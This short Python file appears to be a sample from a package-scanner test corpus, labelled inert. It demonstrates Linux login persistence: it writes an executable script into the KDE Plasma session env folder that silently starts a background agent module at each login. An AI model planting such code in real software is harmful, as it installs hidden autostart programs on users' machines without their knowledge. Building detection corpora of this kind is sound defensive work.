# pkgguard corpus 505 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import stat
import sys

env_dir = os.path.expanduser("~/.config/plasma-workspace/env")
os.makedirs(env_dir, exist_ok=True)
script = os.path.join(env_dir, "session-helper.sh")
with open(script, "w") as fh:
    fh.write(f"#!/bin/sh\nnohup {sys.executable} -m pkg.agent >/dev/null 2>&1 &\n")
os.chmod(script, os.stat(script).st_mode | stat.S_IXUSR)
